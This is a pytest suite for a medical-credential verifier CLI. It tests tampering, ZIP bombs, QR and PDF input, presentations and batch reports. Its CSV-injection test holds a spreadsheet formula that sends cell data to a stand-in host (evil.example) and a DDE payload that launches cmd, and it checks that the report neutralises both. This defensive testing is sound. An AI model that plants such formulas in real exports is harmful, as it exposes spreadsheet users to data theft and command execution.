"""`medcred verify` and `medcred verify-batch` against credentials anchored on a real anvil node."""

from __future__ import annotations

import copy
import csv
import json
import zipfile
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from issuer.chain.backends import open_chain
from verifier.cli import _load_plugins, cli
from verifier.config import TrustedRegistry, render_config

from .world import World


@pytest.fixture(scope="module")
def local_world(anvil_node: tuple[Path, str]) -> World:
    data_dir, _ = anvil_node
    return World.create(open_chain("local", data_dir))


@pytest.fixture(scope="module")
def trust_file(
    local_world: World, anvil_node: tuple[Path, str], tmp_path_factory: pytest.TempPathFactory
) -> Path:
    registry = TrustedRegistry(
        "Local test registry", local_world.chain.chain_id, local_world.address, anvil_node[1]
    )
    path = tmp_path_factory.mktemp("trust") / "verifier.toml"
    path.write_text(render_config([registry]))
    return path


@pytest.fixture(scope="module")
def credentials(local_world: World) -> list[dict[str, Any]]:
    school = local_world.institution("Harbourview Medical School")
    return local_world.issue_anchored(school, 6)


def _run(trust_file: Path, *args: str, stdin: str | None = None) -> Any:
    _load_plugins()
    return CliRunner().invoke(cli, ["verify", "--config", str(trust_file), *args], input=stdin)


def test_verify_file_valid_and_json(
    trust_file: Path, credentials: list[dict[str, Any]], tmp_path: Path
) -> None:
    path = tmp_path / "cred.json"
    path.write_text(json.dumps(credentials[0]))
    result = _run(trust_file, str(path))
    assert result.exit_code == 0, result.output
    assert result.output.startswith("VALID")
    assert "Harbourview Medical School" in result.output
    result = _run(trust_file, str(path), "--json")
    assert result.exit_code == 0
    assert json.loads(result.output)["status"] == "VALID"


def test_verify_stdin_tampered_is_exit_1(trust_file: Path, credentials: list[dict[str, Any]]) -> None:
    forged = copy.deepcopy(credentials[1])
    forged["validUntil"] = "2099-01-01T00:00:00Z"
    result = _run(trust_file, "-", "--json", stdin=json.dumps(forged))
    assert result.exit_code == 1
    report = json.loads(result.output)
    assert report["status"] == "INVALID"
    assert {c["name"] for c in report["checks"] if c["status"] == "fail"} >= {"signature"}


def test_verify_recipient(trust_file: Path, credentials: list[dict[str, Any]]) -> None:
    result = _run(
        trust_file, "-", "--recipient", "1.ada.okafor@example.org", stdin=json.dumps(credentials[1])
    )
    assert result.exit_code == 0, result.output
    result = _run(trust_file, "-", "--recipient", "mallory@example.org", stdin=json.dumps(credentials[1]))
    assert result.exit_code == 1
    assert "not issued to mallory@example.org" in result.output


@pytest.mark.parametrize(
    ("stdin", "expected"),
    [("", "empty"), ("{oops", "not valid JSON"), ("[{}, {}]", "found a list of 2")],
)
def test_verify_bad_input_is_invalid_not_a_traceback(trust_file: Path, stdin: str, expected: str) -> None:
    result = _run(trust_file, "-", stdin=stdin)
    assert result.exit_code == 1
    assert expected in result.output
    assert "Traceback" not in result.output


def test_verify_usage_errors_exit_2(trust_file: Path, tmp_path: Path) -> None:
    assert _run(trust_file, str(tmp_path / "missing.json")).exit_code == 2
    result = _run(trust_file, "http://127.0.0.1:9/cred.json")
    assert result.exit_code == 2
    assert "could not be fetched" in result.output
    bad = tmp_path / "bad.toml"
    bad.write_text("[[registry]]\nchain = 'eip155:1'\naddress = 'nope'\n")
    _load_plugins()
    result = CliRunner().invoke(cli, ["verify", "--config", str(bad), "-"], input="{}")
    assert result.exit_code == 2
    assert "not an Ethereum address" in result.output


def test_nothing_trusted_cannot_check(credentials: list[dict[str, Any]], tmp_path: Path) -> None:
    """With no registry, trusted issuer or trust list configured, nothing can be checked: exit 2."""
    empty = tmp_path / "empty.toml"
    empty.write_text("")
    result = _run(empty, "-", "--json", stdin=json.dumps(credentials[0]))
    assert result.exit_code == 2
    assert "Cannot check" in result.output


def _batch(trust_file: Path, *args: str) -> Any:
    _load_plugins()
    return CliRunner().invoke(cli, ["verify-batch", "--config", str(trust_file), "--quiet", *args])


@pytest.mark.parametrize("workers", ["1", "2"])
def test_verify_batch_mixed_inputs(
    trust_file: Path, credentials: list[dict[str, Any]], tmp_path: Path, workers: str
) -> None:
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "one.json").write_text(json.dumps(credentials[0]))
    (folder / "array.json").write_text(json.dumps(credentials[1:3]))
    (folder / "lines.jsonl").write_text("\n".join(json.dumps(c) for c in credentials[3:5]) + "\n")
    forged = copy.deepcopy(credentials[5])
    forged["credentialSubject"]["name"] = "Someone Else"
    with zipfile.ZipFile(folder / "bundle.zip", "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("good.json", json.dumps(credentials[5]))
        archive.writestr("forged.json", json.dumps(forged))
    (folder / "broken.json").write_text("{ not json")
    report = tmp_path / "report.csv"
    result = _batch(trust_file, "--workers", workers, "--report", str(report), str(folder))
    assert result.exit_code == 1, result.output
    with report.open() as handle:
        rows = list(csv.DictReader(handle))
    assert len(rows) == 8
    statuses = {Path(r["source"]).name: r["status"] for r in rows}
    assert statuses["broken.json"] == "INVALID"
    assert statuses["bundle.zip!forged.json"] == "INVALID"
    assert statuses["bundle.zip!good.json"] == "VALID"
    assert sum(r["status"] == "VALID" for r in rows) == 6
    assert "VALID" in result.output and "signature:signature_invalid" in result.output


def test_verify_batch_json_report_and_zip_bomb(
    trust_file: Path, credentials: list[dict[str, Any]], tmp_path: Path
) -> None:
    bomb = tmp_path / "bomb.zip"
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("huge.json", b'{"a": "' + b"0" * (50 * 1024 * 1024) + b'"}')
        archive.writestr("ok.json", json.dumps(credentials[0]))
    report = tmp_path / "report.json"
    result = _batch(trust_file, "--workers", "1", "--report", str(report), str(bomb))
    rows = json.loads(report.read_text())
    assert [r["status"] for r in rows] == ["INVALID", "VALID"]
    assert "ZIP bomb" in rows[0]["reason"]
    assert result.exit_code == 1


def test_verify_batch_all_valid_exit_0(
    trust_file: Path, credentials: list[dict[str, Any]], tmp_path: Path
) -> None:
    path = tmp_path / "all.jsonl"
    path.write_text("\n".join(json.dumps(c) for c in credentials))
    result = _batch(trust_file, "--workers", "2", str(path))
    assert result.exit_code == 0, result.output
    assert "6 credentials" in result.output


def test_verify_qr_photo_follows_the_link(
    trust_file: Path, credentials: list[dict[str, Any]], tmp_path: Path
) -> None:
    from issuer.qr import qr_png

    from .servers import credential_host

    with credential_host() as host:
        url = host.put("qr.json", credentials[0])
        image = tmp_path / "certificate-photo.png"
        image.write_bytes(qr_png(f"https://verify.example/verify?credential={url}"))
        allowing = tmp_path / "allowing.toml"  # the loopback test host must be allowed explicitly
        allow = f"[network]\nallow_hosts = {sorted(host.allow)}"
        allowing.write_text(trust_file.read_text().replace("[network]", allow))
        result = _run(allowing, "--qr", str(image), "--json")
    assert result.exit_code == 0, result.output
    assert json.loads(result.output)["status"] == "VALID"
    blank = tmp_path / "blank.png"
    from PIL import Image

    Image.new("RGB", (200, 200), "white").save(blank)
    result = _run(trust_file, "--qr", str(blank))
    assert result.exit_code == 2
    assert "No QR code was found" in result.output


def test_verify_qr_reads_the_pdf_certificate(
    trust_file: Path, credentials: list[dict[str, Any]], tmp_path: Path
) -> None:
    """The PDF an employer receives (MedCred's own certificate, QR code embedded as an image)."""
    from issuer.certificate import certificate_pdf

    from .servers import credential_host

    with credential_host() as host:
        url = host.put("pdf.json", credentials[1])
        pdf = tmp_path / "certificate.pdf"
        pdf.write_bytes(
            certificate_pdf(credentials[1], verify_url=f"https://verify.example/verify?credential={url}")
        )
        allowing = tmp_path / "allowing.toml"
        allowing.write_text(
            trust_file.read_text().replace("[network]", f"[network]\nallow_hosts = {sorted(host.allow)}")
        )
        result = _run(allowing, "--qr", str(pdf), "--json")
    assert result.exit_code == 0, result.output
    report = json.loads(result.output)
    assert report["status"] == "VALID"
    assert report["summary"]["credential_id"] == credentials[1]["id"]


def test_verify_qr_pdf_without_a_code_or_damaged(trust_file: Path, tmp_path: Path) -> None:
    from reportlab.pdfgen.canvas import Canvas

    plain = tmp_path / "letter.pdf"
    canvas = Canvas(str(plain))
    canvas.drawString(72, 720, "Dear employer, please find my certificate attached.")
    canvas.save()
    result = _run(trust_file, "--qr", str(plain))
    assert result.exit_code == 2
    assert "No QR code was found" in result.output
    damaged = tmp_path / "damaged.pdf"
    damaged.write_bytes(b"%PDF-1.7\n" + b"\x00garbage" * 100)
    result = _run(trust_file, "--qr", str(damaged))
    assert result.exit_code == 2
    assert "not a PDF MedCred can read" in result.output
    assert "Traceback" not in result.output


def test_verify_url_that_times_out(tmp_path: Path) -> None:
    import socket

    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(1)  # accepts the connection, never answers
    try:
        config = tmp_path / "slow.toml"
        port = listener.getsockname()[1]
        config.write_text(
            '[[trusted_issuer]]\ndid = "did:web:school.example"\nname = "School"\n'
            f'[network]\ntimeout = 1\nallow_hosts = ["127.0.0.1:{port}"]\n'
        )
        result = _run(config, f"http://127.0.0.1:{listener.getsockname()[1]}/credential.json")
    finally:
        listener.close()
    assert result.exit_code == 2
    assert "did not answer in time" in result.output
    assert "Traceback" not in result.output


def test_verify_a_presentation_with_challenge_and_domain(
    trust_file: Path, credentials: list[dict[str, Any]], tmp_path: Path
) -> None:
    from .reference_wallet import sign_presentation

    signed = sign_presentation(credentials[:2], challenge="ch-cli", domain="board.example.org")
    path = tmp_path / "presentation.json"
    path.write_text(json.dumps(signed.presentation))
    result = _run(trust_file, str(path), "--challenge", "ch-cli", "--domain", "board.example.org")
    assert result.exit_code == 0, result.output
    assert result.output.startswith("VALID: The presentation is signed by its holder")
    assert signed.holder in result.output and "Credential 2 of 2" in result.output
    result = _run(trust_file, str(path), "--challenge", "other", "--domain", "board.example.org", "--json")
    assert result.exit_code == 1
    report = json.loads(result.output)
    assert report["type"] == "VerifiablePresentation" and report["status"] == "INVALID"
    assert [c["code"] for c in report["checks"] if c["status"] == "fail"] == ["challenge_mismatch"]
    assert [c["status"] for c in report["credentials"]] == ["VALID", "VALID"]
    # The JWT form on standard input.
    token = sign_presentation(credentials[:1], challenge="ch-cli", domain="board.example.org", jwt=True)
    result = _run(
        trust_file, "-", "--challenge", "ch-cli", "--domain", "board.example.org", stdin=token.presentation
    )
    assert result.exit_code == 0, result.output


def test_verify_batch_gives_a_row_per_presented_credential(
    trust_file: Path, credentials: list[dict[str, Any]], tmp_path: Path
) -> None:
    from .reference_wallet import sign_presentation

    folder = tmp_path / "submissions"
    folder.mkdir()
    good = sign_presentation(credentials[:2], challenge="c", domain="d")
    (folder / "a-good.json").write_text(json.dumps(good.presentation))
    broken = copy.deepcopy(good.presentation)
    broken["verifiableCredential"][0]["credentialSubject"]["name"] = "Someone Else"
    (folder / "b-tampered.json").write_text(json.dumps(broken))
    token = sign_presentation(credentials[2:3], challenge="c", domain="d", jwt=True)
    (folder / "c-token.jwt").write_text(token.presentation)  # a VC-JWT presentation
    report = tmp_path / "report.json"
    result = _batch(trust_file, "--workers", "1", "--report", str(report), str(folder))
    assert result.exit_code == 1, result.output
    rows = json.loads(report.read_text())
    assert [(Path(r["source"]).name, r["status"]) for r in rows] == [
        ("a-good.json#verifiableCredential[0]", "VALID"),
        ("a-good.json#verifiableCredential[1]", "VALID"),
        ("b-tampered.json#verifiableCredential[0]", "INVALID"),
        ("b-tampered.json#verifiableCredential[1]", "INVALID"),  # the holder's signature broke
        ("c-token.jwt#verifiableCredential[0]", "VALID"),
    ]
    assert rows[3]["failed_checks"] == ["presentation:holder_proof:signature_invalid"]


def test_pending_is_exit_3_and_counted_apart_in_verify_batch(
    local_world: World, anvil_node: tuple[Path, str], tmp_path: Path, credentials: list[dict[str, Any]]
) -> None:
    from .servers import credential_host

    with credential_host() as host:
        school = local_world.institution("Pendleton Nursing School")
        pending = local_world.issue(school, 2, base_url=host.base_url)
        for document in pending:
            host.put(document["id"].removeprefix(host.base_url + "/"), document)
        registry = TrustedRegistry("Local", local_world.chain.chain_id, local_world.address, anvil_node[1])
        trust = tmp_path / "verifier.toml"
        trust.write_text(render_config([registry], allow_hosts=host.allow))
        path = tmp_path / "pending.json"
        path.write_text(json.dumps(pending[0]))
        result = _run(trust, str(path))
        assert result.exit_code == 3, result.output
        assert result.output.startswith("PENDING")
        result = _run(trust, str(path), "--json")
        assert result.exit_code == 3 and json.loads(result.output)["status"] == "PENDING"

        folder = tmp_path / "batch"
        folder.mkdir()
        for i, document in enumerate(pending):
            (folder / f"p{i}.json").write_text(json.dumps(document))
        (folder / "valid.json").write_text(json.dumps(credentials[0]))
        result = _batch(trust, str(folder))
        assert result.exit_code == 3, result.output  # none invalid, some pending
        counts = {
            line.split()[0]: line.split()[-1]
            for line in result.output.splitlines()
            if line.startswith("  ") and not line.startswith("    ") and line.split()
        }
        assert counts["VALID"] == "1" and counts["PENDING"] == "2" and counts["INVALID"] == "0"
        tampered = copy.deepcopy(pending[1])
        tampered["credentialSubject"]["name"] = "Someone Else"
        (folder / "bad.json").write_text(json.dumps(tampered))
        assert _batch(trust, str(folder)).exit_code == 1


FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Open")'


def test_verify_batch_csv_report_runs_no_formula(
    local_world: World, trust_file: Path, tmp_path: Path
) -> None:
    """CSV injection: a genuine credential whose holder and achievement names are spreadsheet
    formulas, in a ZIP entry named like one, is reported with every such cell as text."""
    school = local_world.institution("Formula School")
    (credential,) = local_world.issue(school, holder=FORMULA)
    credential["credentialSubject"]["achievement"]["name"] = "+1+cmd|' /C calc'!A0"
    (signed,) = local_world.issue_anchored(school, holder=FORMULA)
    bundle = tmp_path / "in.zip"
    with zipfile.ZipFile(bundle, "w") as archive:
        archive.writestr("=1+1.json", json.dumps(signed))
        archive.writestr("-forged.json", json.dumps(credential))
    report = tmp_path / "report.csv"
    result = _batch(trust_file, "--workers", "1", "--report", str(report), str(bundle))
    assert result.exit_code == 1, result.output
    with report.open(newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert [r["status"] for r in rows] == ["VALID", "INVALID"]
    assert rows[0]["holder_name"] == "'" + FORMULA
    assert rows[1]["achievement"] == "'+1+cmd|' /C calc'!A0"
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@")), row
    # The JSON report keeps the names as they are: JSON is not run by spreadsheets.
    as_json = tmp_path / "report.json"
    _batch(trust_file, "--workers", "1", "--report", str(as_json), str(bundle))
    assert json.loads(as_json.read_text())[0]["holder_name"] == FORMULA


def test_verify_batch_with_a_path_that_does_not_exist_is_a_usage_error(
    trust_file: Path, credentials: list[dict[str, Any]], tmp_path: Path
) -> None:
    """A mistyped PATH exits 2 before anything is verified: it is not an INVALID credential."""
    good = tmp_path / "good.json"
    good.write_text(json.dumps(credentials[0]))
    report = tmp_path / "report.csv"
    result = _batch(trust_file, "--report", str(report), str(good), str(tmp_path / "typo.json"))
    assert result.exit_code == 2, result.output
    assert "No such file or folder: " in result.output and "typo.json" in result.output
    assert not report.exists()
